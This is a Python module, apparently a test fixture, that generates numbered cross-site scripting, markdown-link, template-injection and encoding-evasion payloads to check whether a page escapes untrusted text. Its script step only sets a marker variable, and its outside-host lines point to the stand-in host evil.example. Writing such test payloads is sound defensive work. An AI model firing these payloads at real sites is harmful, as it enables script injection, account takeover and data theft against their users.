"""Words that would run a script, load something or break a page if they were taken for markup.

Each holds ``{n}``, a number of its own, so that it can be found again as text.
"""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

RUN = "window.__pwned={n}"
_CLOSERS = (
    "", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>",
    "</script>", "</option></select>", "</fieldset></form>", "*/", "--!>", "\\", "&quot;>",
    "%22%3E",
)  # fmt: skip
_MARKUP = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<details open ontoggle={run}>",
)
_LONE = (
    "<body onload={run}>", "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<object data='javascript:{run}'></object>", "<embed src='javascript:{run}'>",
    "<form action='javascript:{run}'><button>{n}</button></form>",
    "<base href='https://evil.example/'>{n}", "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<style>@import'//evil.example/{n}'</style>", "<img src=//evil.example/{n}.png>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script>",
    "<a href='javascript:{run}'>{n}</a>", "<a href=data:text/html,<script>{run}</script>>{n}</a>",
    "<sCrIpT>{run}</sCrIpT>", "<script\n>{run}</script\n>",
    "<<script>script>{run}<</script>/script>",
    "<scr\0ipt>{run}</scr\0ipt>", "<img/src='x'/onerror={run}>",
    "<x onclick={run} tabindex=1>{n}</x>",
    "<form id=form><input name=submit value={n}>", "<img name=body><img name=forms>{n}",
    "<a id=told data-thanks=//evil.example>{n}</a>", "<main data-thanks='//evil.example/{n}'>",
    '" onmouseover="{run}" x="{n}', "' onfocus='{run}' autofocus x='{n}", "`onload={run}`{n}",
    'x" style="position:fixed;inset:0" {n}', "x' style='background:url(//evil.example/{n})'",
    "[click {n}](javascript:{run})", "[click {n}](JaVaScRiPt:{run})",
    "[click {n}](java\tscript:{run})",
    "[click {n}](&#106;avascript:{run})", "[click {n}](data:text/html;base64,PHNjcmlwdD4=)",
    "[click {n}](vbscript:{run})", "[click {n}](//evil.example/x)", "[a](<javascript:{run}>){n}",
    "![{n}](javascript:{run})", "![{n}](//evil.example/x.png)", "<javascript:{run}>{n}",
    "[x]: javascript:{run} {n}", '[click {n}](https://a.example/"onclick="{run})',
    "{{{{7*7}}}} {n}", "{{% import os %}} {n}", "{{{{config}}}} {n}", "${{{run}}} {n}",
    "#{{{run}}} {n}",
    "{{{{branch|<img src=x onerror={run}>}}}} {n}", "{{{{survey.title}}}} {n}", "<%= {run} %>{n}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-{n}", "\u202e<tpircs>{n}", "\u2028{run}\u2029{n}",
    "\ufeff<script>{run}</script>", "\u0000{n}", "\ufdd3en\ufdd4{n}\ufdd5", "\x1a0\x1a{n}",
    "&lt;script&gt;{run}&lt;/script&gt;{n}", "&#60;img src=x onerror={run}&#62;{n}",
    "\\x3cscript\\x3e{run}{n}", "%3Cscript%3E{run}%3C/script%3E{n}",
    "＜script＞{run}＜/script＞{n}",
    "__proto__ {n}", "constructor {n}", "hasOwnProperty {n}", "toString {n}",
    "javascript:{run} {n}",
    "';{run};'{n}", '";{run};"{n}', "*/{run}/*{n}", "expression({run}){n}",
    "url(javascript:{run}){n}",
    "]}}'>{run} {n}", '"}},{{"ok":{run} {n}', '\\";{run}//{n}', "{n}" + "A" * 3000,
    "<" * 200 + "{n}", "\u0301" * 200 + "{n}", "<!--{n}", "<![CDATA[{n}", "<?php {run} ?>{n}",
)  # fmt: skip


def _made() -> tuple[str, ...]:
    texts = [close + markup for close, markup in product(_CLOSERS, _MARKUP)]
    numbered = enumerate([*texts, *_LONE], 1001)
    return tuple(
        text.replace("{run}", RUN.replace("{n}", str(n)))
        .replace("{{{{", "{{")
        .replace("}}}}", "}}")
        .replace("{n}", str(n))
        for n, text in numbered
    )


PAYLOADS = _made()
"""Payloads by number: the first is 1001."""
